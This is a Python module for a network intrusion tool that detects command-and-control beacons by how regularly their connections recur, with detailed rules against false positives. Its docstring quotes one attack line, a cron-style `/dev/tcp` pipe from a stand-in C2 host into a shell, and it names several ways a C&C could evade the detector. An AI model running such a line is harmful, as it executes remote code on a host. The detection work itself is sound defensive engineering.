"""C&C beacon detector: a client that calls the same remote service at a steady interval.

Per 4-tuple (client, server, server port, tcp/udp) it keeps the start times and sizes (bytes both
ways) of the last `beacon.history` closed connections, and scores how regular they are. It never blocks
and never does I/O: it returns Evidence, the judge decides.

Scoring (learned from how RITA and Slips score beacons, written for slipsq; all in flow time):

* gaps g = differences of consecutive connection starts; m = median(g).
* dispersion d = MAD(g) / m (median absolute deviation over the median: scale-free, so 1 s and 1 h
  intervals are judged alike); in-band share f = share of gaps within [0.5 m, 1.6 m]; Bowley skew
  s = (q1 + q3 - 2 m) / (q3 - q1).
  timing = 0.4 (1 - min(1, max(0, d - 0.1) / 0.4)) + 0.4 max(0, (f - 0.5) / 0.5) + 0.2 (1 - min(1, |s|))
  (dispersion up to 10 % counts as perfect; the skew is 0 when the quartiles are close).
  A strict or ±10 % beacon scores ~1.0; jitter of ±50 % of the interval (uniform) ~0.8 (93 % of
  12-connection samples ≥ 0.6); Poisson-like human traffic (exponential gaps) ~0.16 (0.7 % of
  12-connection samples ≥ 0.6; simulated with numpy, 4000 samples each).
  A tuple is reported when it has ≥ `beacon.min_connections` (6) and timing ≥ `beacon.min_score` (0.6)
  raised by up to 0.15 for tuples with fewer than `beacon.block_connections` connections (fewer gaps,
  noisier statistics: at 6 connections the bar is 0.75).
* size = 1 - min(1, MAD(sizes) / median(sizes) / 0.5): 1.0 for identical sizes.
* confidence = `beacon.max_confidence` (0.9) × (0.7 timing + 0.3 size) × min(1, n / `beacon.block_connections`).
* threat = critical once n ≥ `beacon.block_connections` (12), else high.

So one report never blocks: a strict beacon with steady sizes reaches critical × 0.9 at its 12th
connection, and an hourly update check is just as regular, and as steady, as a C&C. A beacon blocks
by itself when it persists: the judge counts a critical finding twice when it is reported again a
minute or more after its first report in the window (judge.py), so a strict or ±30 % jittered
beacon at intervals up to ~10 minutes blocks by itself (a 10 s beacon within 3 minutes, a 2 s one
within 2), while a tuple seen once an hour (one report per window) never does. A ±50 % jittered
beacon with random sizes scores about 0.55 and blocks with one corroboration (a Markov match or
another finding against the same server).
The offender is the server (the C&C), or the client with `beacon.block = "client"`. Against a
server, the reports of all local clients on one service are one finding for the judge (key
`beacon:<server>:<port>/<proto>`): several devices calling an update service every hour do not add
up to a block.

A TCP connection counts only when its handshake completed (`tcpstate.opened`: the client's SYN,
the server's SYN-ACK, the client's ACK). Others are not calls to a service: attempts the server
refused or never answered (a C&C that is down is the reconnection-storm detector's, which never
blocks a server local hosts use), SYNs sent with a local host's address, a piece of one long
connection (after a keep-alive gap longer than the flow table's idle timeout, or a forged RST that
closed the flow but not the connection), and a SYN-ACK sent to a host that never asked; any of them
could be made at will by somebody who wants a server everyone uses (a resolver, a push service)
blocked. Nor does a port check: a connection in which the client said nothing
(`tcpstate.client_silent`) and whose first bytes were its server's speak-first banner (SSH-, a 220
greeting, RFB, telnet: the app decoder's banner event of that very connection, `speaks_first`). Uptime Kuma's
"TCP port" check of the owner's VPS's ssh every 60 s connects, takes the banner and closes, and
blocked the VPS. A silent client elsewhere still counts: a cron job piping a C&C's push into a shell
(`cat </dev/tcp/C2/8443 | sh`) never writes a byte (a red team: that one went unseen when every
silent client was skipped). The price: a C&C that opens with an ssh banner to a silent client.
Legitimate periodic traffic is told apart by who and where, not by timing (it is just as regular):
* NTP (udp port 123 on either side), mDNS/LLMNR/SSDP/NetBIOS ports, and any multicast/broadcast
  destination: ignored.
* DNS (53, 853, 5353) to a private or own-address resolver: ignored; to a public resolver: reported
  with may_block=False (a resolver relays, it is not a C&C). Any other port of a public resolver
  (`dns.trusted_resolvers`; 443 is DNS over HTTPS): reported at its level, never blocks (it would
  take the house's DNS with it).
* a server the allow list protects (ctx.allow), or whose DNS names (ctx.dns_names) end with one of
  `beacon.allow_domains` (connectivity checks, update services): ignored.
* a peer of a P2P host (detect/p2p.py: it connected in, or listens on an unnamed high non-service
  port of a host that talks to a swarm): one low line per P2P host per window, may_block=False, under its
  own key ("p2p-chatter:..."), so it never adds to a beacon finding. A swarm is not a C&C.
* both ends private (LAN monitoring, printers, NAS polling): reported, may_block=False, unless
  `beacon.local_may_block`.
* a server port of a protocol that keeps a registration or NAT binding alive on a timer, on its own
  transport (`beacon.keepalive_ports`: SIP, IAX2, STUN/TURN, IPsec, OpenVPN, WireGuard, Tailscale,
  ZeroTier, Nebula): the
  confidence counts half (at most 0.45, which never doubles), so it blocks only with another
  finding against the server (a Markov match, a threat list). A VoIP phone sending OPTIONS every
  90 s (or re-registering every 10 min) to its provider got the provider blocked: the house's phone
  line. The price: a C&C that picks one of these ports needs that second finding too.
* a device-management agent checking in with its controller (MANAGEMENT_AGENTS, told by the
  HTTP request and port: UniFi's POST /inform to 8080 every 10 s, to a controller on a VPS by
  address), when at least half the tuple's connections in its history were such check-ins: counts
  half, as a keepalive port. The price: a C&C that sends that request line and agent to 8080 in at
  least every other connection needs a second finding.
* an outside client calling a local server (inbound): ignored. A password guesser or a monitoring
  probe is just as regular, and the C&C of our hosts is outside; bruteforce/portscan judge those.
Limits: the detector sees connections, so a UDP beacon that keeps one source port alive (one flow
table entry) or a beacon inside one long TCP connection shows no gaps; the long-connection detector
reports the latter.
"""

from __future__ import annotations

import bisect
import math
from collections import OrderedDict, deque
from collections.abc import Callable, Collection, Iterable, Iterator, Sequence
from itertools import pairwise

from slipsq import twins
from slipsq.allow import AllowList
from slipsq.config import Option, fraction, positive
from slipsq.detect.base import NO_EVIDENCE, Context, Detector, FlowGate
from slipsq.detect.prefixes import MEMO_SIZE, Memo, is_local
from slipsq.detect.tcpstate import client_silent, opened
from slipsq.flow import AppEvent, Flow
from slipsq.lru import new, put, touch
from slipsq.records import CRITICAL, HIGH, LOW, Evidence

# ports whose periodic chatter is infrastructure: NTP, mDNS, LLMNR, SSDP, NetBIOS name/datagram
_IGNORED_UDP_PORTS = frozenset({123, 5353, 5355, 1900, 137, 138})
_DNS_PORTS = frozenset({53, 853, 5353})

# server ports of protocols that keep a registration or a NAT binding alive on a timer, by design, on
# their own transport: SIP (5060 udp/tcp, 5061 tls), IAX2 (4569), STUN/TURN (3478, 3479, 19302 udp;
# 5349 tls), IPsec IKE and NAT-T (500, 4500 udp), OpenVPN (1194 udp), WireGuard (51820 udp). A phone
# registered with its provider is as regular as a C&C.
DEFAULT_KEEPALIVE_PORTS = ["500/udp", "1194/udp", "3478/udp", "3479/udp", "4500/udp", "4569/udp", "5060/udp",
                           "5060/tcp", "5061/tcp", "5349/tcp", "19302/udp", "51820/udp",
                           # overlay VPNs' direct paths: Tailscale, ZeroTier, Nebula (peers from their
                           # coordination servers, never from DNS; a session resumed per use)
                           "41641/udp", "9993/udp", "4242/udp"]
KEEPALIVE_WEIGHT = 0.5  # a beacon's confidence on such a port: at most 0.45, below persistence (0.6)
# device-management agents that check in with their controller on a timer by design, known by their
# request (method, path, User-Agent prefix): UniFi access points and switches POST /inform every 10 s
# to the controller (self-hosted on a VPS: an unnamed server on 8080, a C&C's port). Such a tuple
# counts as a keepalive port's does: half, a block only with another finding.
# (path, User-Agent prefix, server port, what) of a POST request (on_app turns other methods away first)
MANAGEMENT_AGENTS = (("/inform", "AirControl Agent", 8080, "UniFi inform"),)
MAX_MANAGED = 1024  # (client, server, port) tuples remembered as management check-ins (`history` times each)
SPEAKS_FIRST = frozenset({"ssh", "ftp", "smtp", "vnc", "telnet"})  # banner services whose server speaks first
MAX_SPEAKS_FIRST = 4096  # connections whose server's banner is remembered until their flow closes


def _port_proto(v: object) -> bool:
    port, _, proto = str(v).partition("/")
    return isinstance(v, str) and port.isdigit() and 0 < int(port) < 65536 and proto in ("tcp", "udp")


DEFAULT_ALLOW_DOMAINS = [
    "connectivitycheck.gstatic.com", "connectivitycheck.android.com", "clients3.google.com",
    "msftconnecttest.com", "msftncsi.com", "captive.apple.com", "detectportal.firefox.com",
    "nmcheck.gnome.org", "connectivity-check.ubuntu.com", "network-test.debian.org", "pool.ntp.org",
    "time.windows.com", "time.apple.com",
    # dynamic DNS updaters (DuckDNS's documented cron job, ddclient, inadyn, a router's DDNS client) call
    # the update endpoint and a what-is-my-address service every 5 minutes by design. Only those exact
    # hosts: the services' own zones (duckdns.org, ddns.net, no-ip's) are where RATs keep their C&C names.
    # And only hosts on addresses of their own: icanhazip.com and ipify answer from a CDN's shared
    # edge addresses, which serve any site by its TLS name, a C&C's too (a red team, 2026-12-07)
    "www.duckdns.org", "dynupdate.no-ip.com", "members.dyndns.org", "checkip.dyndns.org", "checkip.dyndns.com",
    "api.dynu.com", "ifconfig.me", "checkip.amazonaws.com",
]


def _bowley(xs: list[float], m: float) -> float:
    """Bowley (quartile) skew of sorted xs; 0 when the quartiles are within 20 % of the median of
    each other (the skew of a near-constant series is noise, not a sign of irregularity)."""
    n = len(xs)
    q1, q3 = xs[n // 4], xs[(3 * n) // 4]
    return 0.0 if q3 - q1 <= 0.2 * m else (q1 + q3 - 2 * m) / (q3 - q1)


def median(xs: Iterable[float]) -> float:
    """statistics.median, imported on first use: the module and what it imports (fractions, decimal,
    random) cost every command's start-up ~5 ms, and most runs never score a tuple."""
    from statistics import median as stats_median

    return stats_median(xs)


def _median_sorted(xs: list[float]) -> float:
    """statistics.median of an already sorted list, without sorting it again (same arithmetic)."""
    n = len(xs)
    if n == 0:
        return median(xs)  # its StatisticsError
    return xs[n // 2] if n % 2 else (xs[n // 2 - 1] + xs[n // 2]) / 2


def timing_score(gaps: list[float]) -> tuple[float, float, float]:
    """(score 0..1, dispersion MAD/median, median gap) of the gaps between connection starts."""
    xs = sorted(gaps)
    m = _median_sorted(xs)
    if m <= 0:
        return 0.0, float("inf"), m
    d = _median_sorted(sorted([abs(x - m) for x in xs])) / m
    f = sum(1 for x in xs if 0.5 * m <= x <= 1.6 * m) / len(xs)
    s = _bowley(xs, m)
    score = (0.4 * (1 - min(1.0, max(0.0, d - 0.1) / 0.4)) + 0.4 * max(0.0, (f - 0.5) / 0.5)
             + 0.2 * (1 - min(1.0, abs(s))))
    return score, d, m


def size_score(sizes: list[int]) -> tuple[float, float]:
    """(score 0..1, dispersion MAD/median) of the connection sizes."""
    m = median(sizes)
    if m <= 0:
        return 1.0, 0.0
    d = median(abs(x - m) for x in sizes) / m
    return 1 - min(1.0, d / 0.5), d


class _Tuple:
    __slots__ = ("emitted_n", "emitted_threat", "emitted_window", "last", "sizes", "starts", "total")

    def __init__(self) -> None:
        self.starts: list[float] = []
        self.sizes: list[int] = []
        self.total = 0  # connections seen (the lists keep only the last `history`)
        self.emitted_n = 0  # total when evidence was last emitted (0: never)
        self.emitted_window = -1
        self.emitted_threat = 0.0
        self.last = 0.0


TupleKey = tuple[str, str, int, str]  # (client, server, server port, proto)


class Tuples:
    """The per-flow state: 4-tuple -> its last `history` connection starts and sizes, at most
    `bound` tuples, least recently seen first (slipsq.lru.touch: eviction and pruning take from the
    front). The readable twin of the compiled `_beacon.Tuples` (slipsq.twins chooses; the
    differential tests in tests/test_detect_compiled.py hold them equal)."""

    __slots__ = ("bound", "history", "map", "oldest_last")

    def __init__(self, history: int, bound: int) -> None:
        self.history, self.bound = history, bound
        self.map: OrderedDict[TupleKey, _Tuple] = OrderedDict()
        # when the next prune may find something: the front tuple's last (the one pruning looks at),
        # or lower when a tuple with an older start was touched since
        self.oldest_last = math.inf

    def __len__(self) -> int:
        return len(self.map)

    def __iter__(self) -> Iterator[TupleKey]:
        """The keys, least recently seen first."""
        return iter(self.map)

    def get(self, key: TupleKey) -> _Tuple | None:
        return self.map.get(key)

    def add(self, key: TupleKey, start: float, size: int) -> _Tuple:
        """One connection of `key` that started at `start` and carried `size` bytes (both ways)."""
        t = touch(self.map, key, _Tuple, self.bound)  # bounded, least recently used goes first
        starts = t.starts
        if not starts or start >= starts[-1]:  # the common case: it starts after the others
            starts.append(start)
            t.sizes.append(size)
        else:  # flows close out of start order (a long one closes late): insert by start time
            i = bisect.bisect(starts, start)
            starts.insert(i, start)
            t.sizes.insert(i, size)
        if len(starts) > self.history:
            del starts[0], t.sizes[0]
        t.total += 1
        if start > t.last:
            t.last = start
        if t.last < self.oldest_last:  # a new tuple may start before every other one
            self.oldest_last = t.last
        return t

    def prune(self, horizon: float) -> None:
        """Forget the tuples whose last connection started before `horizon`."""
        if horizon <= self.oldest_last:  # no tuple is that silent: no need to look at them
            return
        # The front is the tuple seen least recently, so the silent ones are there: pop them until
        # the first that is not (O(tuples dropped), never a walk over the map). A tuple whose last
        # flow started long ago but closed late sits further back and waits for a later prune or
        # the bound.
        tuples = self.map
        while tuples:
            first = next(iter(tuples.values()))
            if first.last >= horizon:
                break
            tuples.popitem(last=False)
        self.oldest_last = first.last if tuples else math.inf


class Intake:
    """The detector's per-flow path, one call per closed flow: the ignore rules that depend on the
    flow alone, the tuple update, and whether the tuple could say something new. `add` answers the
    tuple to score, or None: the common case (ignored, fewer than `min_n` connections, or nothing
    new since its last report), so Python's scoring runs only when it may report. The readable twin
    of the compiled `_beacon.Intake` (tests/test_detect_compiled.py holds them equal).

    `local` answers "is this address local" (prefixes.is_local, a memo: the same answer forever).
    A server the allow list protects (why_protected), or a subnet broadcast it cannot know, is
    never a beacon: asked once per server (`never`, a memo like is_local; allowed domain names are
    checked only when a tuple is about to be reported: DNS names per flow would cost more than the
    scoring)."""

    __slots__ = ("full_n", "local", "min_n", "never", "own", "post", "score", "speaks_first", "tuples", "window")

    def __init__(self, tuples: Tuples, min_n: int, full_n: int, window: float, own: Collection[str],
                 local: Callable[[str], bool], allow: AllowList) -> None:
        self.tuples, self.min_n, self.full_n, self.window = tuples, min_n, full_n, window
        self.own, self.local = own, local
        self.never = Memo(lambda dst: allow.why_protected(dst) is not None or dst.endswith(".255"),
                          MEMO_SIZE).__getitem__
        # the detector's scoring, for on_flow (Beacon._score): called only for a tuple `add` lets through
        self.score: Callable[[_Tuple, Flow], Sequence[Evidence]] | None = None
        # (client, client port, server, server port) -> the service whose banner the server sent first
        # on that connection (ssh, ftp, smtp, vnc, telnet): if its client then said nothing, it was a
        # port check (Beacon.on_app fills it; the connection's flow takes its entry out). The
        # connection's own banner, not the server's: one forged segment "from" a C&C's port must
        # not license its pushes to silent clients (a review)
        self.speaks_first: OrderedDict[tuple[str, int, str, int], str] = new()
        # the detector's check-in counting (Beacon._post), for on_app: called only for an HTTP POST
        self.post: Callable[[AppEvent], Sequence[Evidence]] | None = None

    def on_app(self, event: AppEvent) -> Sequence[Evidence]:
        """The detector's app hook, handed to the engine (one call per banner and HTTP request, no
        Beacon frame): a banner of a server that speaks first is remembered for its connection
        (speaks_first, for the port-check rule); an HTTP POST goes to `post`; anything else (most
        banners and requests) is nothing."""
        data = event.data
        if event.kind == "banner":
            service = data.get("service")
            if service in SPEAKS_FIRST:  # the connection's first payload, sent by its server
                put(self.speaks_first, (event.daddr, event.dport, event.saddr, event.sport), service,
                    MAX_SPEAKS_FIRST)
            return NO_EVIDENCE
        if data.get("method") != "POST":  # most requests: the agents' check-ins are POSTs
            return NO_EVIDENCE
        assert self.post is not None, "Beacon sets the intake's post"
        return self.post(event)

    def on_flow(self, flow: Flow) -> Sequence[Evidence]:
        """The detector's hook, handed to the engine (one call per flow, no Beacon frame): `add`,
        and the detector's scoring only for a tuple it lets through."""
        t = self.add(flow)
        if t is None:
            return NO_EVIDENCE
        assert self.score is not None, "Beacon sets the intake's score"
        return self.score(t, flow)

    def ignored(self, f: Flow) -> bool:
        """Traffic that is never a beacon (see the module docstring)."""
        if f.proto == "udp" and (f.dport in _IGNORED_UDP_PORTS or f.sport == 123):
            return True
        dst = f.daddr
        if f.proto == "tcp":
            if not opened(f):
                return True
            if self.speaks_first and client_silent(f) and self.speaks_first.pop((f.saddr, f.sport, dst, f.dport), ""):
                return True  # a port check that took this connection's own banner
        if self.local(dst) and (f.dport in _DNS_PORTS or not self.local(f.saddr)):
            # DNS to a local resolver; or inbound: an Internet client calling a local server
            # regularly is a scanner, a brute forcer or a monitoring service, never our hosts' C&C
            # (blocking the server would be wrong)
            return True
        if f.dport in _DNS_PORTS and dst in self.own:
            return True
        return self.never(dst)

    def add(self, f: Flow) -> _Tuple | None:
        if f.is_report or f.proto not in ("tcp", "udp") or self.ignored(f):
            return None
        t = self.tuples.add((f.saddr, f.daddr, f.dport, f.proto), f.start, f.sbytes + f.dbytes)
        n = len(t.starts)
        if n < self.min_n:
            return None
        if t.emitted_n and int(t.last // self.window) == t.emitted_window:
            # reported before in this judge window: re-score only when it could say something new
            if t.emitted_threat == LOW:  # reported low (P2P peer, public resolver)
                return None
            threat = CRITICAL if n >= self.full_n else HIGH
            if threat == t.emitted_threat and t.total < 1.5 * t.emitted_n:  # same threat, not grown by half
                return None
        return t


def make_tuples(history: int, bound: int) -> Tuples:
    """The compiled Tuples, or its readable twin (slipsq.twins decides)."""
    fast = twins.compiled("slipsq.detect._beacon")
    cls: type[Tuples] = Tuples if fast is None else fast.Tuples
    return cls(history, bound)


def make_intake(tuples: Tuples, min_n: int, full_n: int, window: float, own: Collection[str],
                local: Callable[[str], bool], allow: AllowList) -> Intake:
    """The compiled Intake, or its readable twin (slipsq.twins decides; give it make_tuples's)."""
    fast = twins.compiled("slipsq.detect._beacon")
    cls: type[Intake] = Intake if fast is None else fast.Intake
    return cls(tuples, min_n, full_n, window, own, local, allow)


class Beacon(Detector):
    name = "beacon"
    evidence_kinds = ("beacon",)
    # requests that say a tuple is a device-management check-in; the banners of servers that speak first
    app_kinds = frozenset({"http", "banner"})
    flow_gate = FlowGate(protos=frozenset({"tcp", "udp"}), reports=False)  # Intake.add's first test
    options = (
        Option("beacon.min_connections", 6, "connections of a 4-tuple before it is scored", lambda v: v >= 4,
               ">= 4"),
        Option("beacon.block_connections", 12,
               "connections at which a regular tuple reaches full confidence and critical threat", positive,
               "> 0"),
        Option("beacon.min_score", 0.6, "timing regularity (0..1) a tuple needs to be reported", fraction,
               "between 0 and 1"),
        Option("beacon.min_interval", 0.8, "shortest median interval (s) considered a beacon (1 s, with room "
               "for jitter)", positive,
               "> 0", duration=True),
        Option("beacon.max_interval", 3900.0, "longest median interval (s) considered a beacon", positive,
               "> 0", duration=True),
        Option("beacon.history", 48, "connections remembered per 4-tuple (bounded memory)", lambda v: v >= 8,
               ">= 8"),
        Option("beacon.max_tuples", 200_000, "4-tuples remembered at most (oldest forgotten first)", positive,
               "> 0"),
        Option("beacon.block", "server", "which end of a beacon to block: server (the C&C) or client",
               lambda v: v in ("server", "client"), "server or client"),
        Option("beacon.max_confidence", 0.9, "confidence of a perfect beacon: below 1, so one report never "
               "blocks (the judge doubles a beacon that persists)", fraction, "between 0 and 1"),
        Option("beacon.local_may_block", False,
               "beacons between two local addresses (private ranges, network.local) may block"),
        Option("beacon.keepalive_ports", DEFAULT_KEEPALIVE_PORTS,
               "server ports of keepalive protocols (SIP, STUN/TURN, IPsec, OpenVPN, WireGuard, Tailscale, "
               "ZeroTier, Nebula), as port/proto: a beacon to one counts half (at most 0.45): it blocks only "
               "with another finding against the server (a VoIP phone re-registers on a timer)",
               lambda v: all(_port_proto(p) for p in v), "a list like [\"5060/udp\", \"5061/tcp\"]"),
        Option("beacon.allow_domains", DEFAULT_ALLOW_DOMAINS,
               "servers whose DNS names end with one of these are never reported (connectivity checks)"),
    )

    def __init__(self, ctx: Context) -> None:
        super().__init__(ctx)
        self.min_n: int = self.opt("min_connections")
        self.full_n: int = self.opt("block_connections")
        self.min_score: float = self.opt("min_score")
        self.min_iv: float = self.opt("min_interval")
        self.max_iv: float = self.opt("max_interval")
        self.history: int = self.opt("history")
        self.max_tuples: int = self.opt("max_tuples")
        self.block_client = self.opt("block") == "client"
        self.local_may_block: bool = self.opt("local_may_block")
        self.keepalive_ports: frozenset[str] = frozenset(self.opt("keepalive_ports"))
        self.max_conf: float = self.opt("max_confidence")
        self._p2p_reported: OrderedDict[str, int] = OrderedDict()  # P2P host -> judge window of its last chatter report
        self.allow_domains = tuple(d.lower().strip(".") for d in self.opt("allow_domains"))
        self.window: float = self.cfg["judge.window"]
        self.own = {str(a) for a in ctx.allow.own}  # the gateway itself may be the resolver
        self.tuples = make_tuples(self.history, self.max_tuples)
        self.intake = make_intake(self.tuples, self.min_n, self.full_n, self.window, self.own, is_local,
                                  ctx.allow)
        self.intake.score = self._score
        self.intake.post = self._post
        # the engine calls the intake's on_flow and on_app directly (compiled: no Python frame per
        # flow, nor per banner or request); the class's hooks below say the same in Python
        self.on_flow = self.intake.on_flow  # type: ignore[method-assign]
        self.on_app = self.intake.on_app  # type: ignore[method-assign]
        self._next_prune = 0.0
        # (client, server, port) -> (the management protocol its requests spoke, when: the last `history`)
        self._managed: OrderedDict[tuple[str, str, int], tuple[str, deque[float]]] = OrderedDict()

    def _allowed_name(self, ip: str) -> bool:
        names = self.ctx.dns_names.get(ip)
        if not names or not self.allow_domains:
            return False
        for name in names:
            n = name.lower().rstrip(".")
            if any(n == d or n.endswith("." + d) for d in self.allow_domains):
                return True
        return False

    # --- hooks ------------------------------------------------------------------------------------
    def on_app(self, event: AppEvent) -> Sequence[Evidence]:  # replaced by self.intake.on_app in __init__
        """A banner: remember a server that speaks first (speaks_first, for the port-check rule). An
        HTTP POST: count it toward its tuple's device-management check-ins (_post)."""
        return self.intake.on_app(event)

    def _post(self, event: AppEvent) -> Sequence[Evidence]:
        """An HTTP POST (the intake let it through): count it toward its tuple's device-management
        check-ins (MANAGEMENT_AGENTS)."""
        data = event.data
        uri, agent = data.get("uri"), data.get("user_agent")
        if isinstance(uri, str) and isinstance(agent, str):
            path = uri.partition("?")[0]
            for p, prefix, port, what in MANAGEMENT_AGENTS:
                if path == p and agent.startswith(prefix) and event.dport == port:
                    key = (event.saddr, event.daddr, event.dport)
                    seen = self._managed.get(key)
                    times = seen[1] if seen is not None else deque(maxlen=self.history)
                    times.append(event.ts)
                    put(self._managed, key, (what, times), MAX_MANAGED)
        return NO_EVIDENCE

    def on_flow(self, flow: Flow) -> Sequence[Evidence]:  # replaced by self.intake.on_flow in __init__
        t = self.intake.add(flow)  # None unless the flow's tuple may be reported
        return NO_EVIDENCE if t is None else self._score(t, flow)

    def _score(self, t: _Tuple, flow: Flow) -> Sequence[Evidence]:
        """Score a tuple the intake let through (enough connections, and something new to say)."""
        starts, sizes = t.starts, t.sizes  # (the compiled tuple makes these lists when asked: once)
        n = len(starts)
        window = int(t.last // self.window)
        threat = CRITICAL if n >= self.full_n else HIGH
        gaps = [b - a for a, b in pairwise(starts)]
        timing, disp, iv = timing_score(gaps)
        # fewer connections, noisier statistics: raise the bar by up to 0.15 below full_n
        bar = self.min_score + 0.15 * max(0, self.full_n - n) / max(1, self.full_n - self.min_n)
        if timing < bar or not self.min_iv <= iv <= self.max_iv or self._allowed_name(flow.daddr):
            return NO_EVIDENCE
        size, sdisp = size_score(sizes)
        confidence = self.max_conf * (0.7 * timing + 0.3 * size) * min(1.0, n / self.full_n)
        src, dst, port, proto = flow.saddr, flow.daddr, flow.dport, flow.proto  # the tuple's key
        keepalive = f"{port}/{proto}" in self.keepalive_ports
        # a management check-in when at least half the tuple's connections in its history were one:
        # one inform POST is no licence for the TLS beacon that follows it on the same tuple (a red
        # team's decoy), nor are informs from before the history (a review: 9 h old ones did)
        checkins = self._managed.get((src, dst, port)) if proto == "tcp" and self._managed else None
        managed = None
        if checkins is not None and 2 * sum(1 for ts in checkins[1] if ts >= starts[0]) >= n:
            managed = checkins[0]
        if keepalive or managed:
            confidence *= KEEPALIVE_WEIGHT
        may_block = True
        note = ""
        finding = "beacon"
        if self.ctx.peers.is_peer(src, dst, port, t.last, self.ctx.dns_names):
            t.emitted_n, t.emitted_window, t.emitted_threat = t.total, window, LOW
            if self._p2p_reported.get(src) == window:  # one low line per P2P host per window is enough
                return NO_EVIDENCE
            put(self._p2p_reported, src, window, 4096)
            may_block, threat, finding = False, LOW, "p2p-chatter"
            note = "; peer of a P2P host (see p2p): chatter with a swarm, reported low, never blocks"
        elif port in _DNS_PORTS:
            may_block, threat, note = False, LOW, "; DNS to a public resolver: reported, never blocks"
        elif dst in self.ctx.resolvers.listed and not self.block_client:
            # DNS over HTTPS: the resolver relays (a C&C behind it is a name it answers); blocking it
            # would cut every device of the house that uses it from its DNS
            may_block = False
            note = "; the server is a public resolver (dns.trusted_resolvers: DNS over HTTPS?): never blocked"
        elif is_local(src) and is_local(dst) and not self.local_may_block:
            may_block, note = False, "; both ends local: reported, never blocks (beacon.local_may_block)"
        elif keepalive:
            note = (f"; {port}/{proto} is a keepalive protocol's port (beacon.keepalive_ports): counts half, "
                    "blocks only with another finding")
        elif managed:
            note = (f"; its requests are a device-management check-in ({managed}, on a timer by design): counts "
                    "half, blocks only with another finding")
        t.emitted_n, t.emitted_window, t.emitted_threat = t.total, window, threat
        offender = src if self.block_client else dst
        span = starts[-1] - starts[0]
        desc = (f"C&C beacon from {src} to {dst}:{port}/{proto}: {n} connections every {iv:.1f}s "
                f"(gap dispersion {disp:.0%}, sizes ~{int(median(sizes))} B dispersion {sdisp:.0%}) "
                f"over {span:.0f}s; timing score {timing:.2f}, size score {size:.2f}{note}")
        return [Evidence(ts=t.last, detector=self.name, offender=offender, src_ip=src, dst_ip=dst,
                         dst_port=port, proto=proto, description=desc, threat_level=threat,
                         confidence=round(confidence, 3), may_block=may_block,
                         key=self._key(finding, src, dst, port, proto), flows=(flow,))]

    def _key(self, finding: str, src: str, dst: str, port: int, proto: str) -> str:
        """The judge's key: against a server, the service (server, port, protocol) without the
        client. Two devices of one brand checking the same update server every hour are one finding
        (its strongest report), not two adding up to a block: a service many local hosts call
        regularly is a common one, not a surer C&C. Each device's own beacon still doubles when it
        persists. Against the client (beacon.block = "client"), the whole tuple."""
        return f"{finding}:{src}:{dst}:{port}/{proto}" if self.block_client else f"{finding}:{dst}:{port}/{proto}"

    def on_tick(self, now: float) -> Sequence[Evidence]:
        if now >= self._next_prune:  # forget tuples silent for longer than two slow-beacon periods
            self._next_prune = now + 60.0
            self.tuples.prune(now - 2 * self.max_iv)
        return NO_EVIDENCE
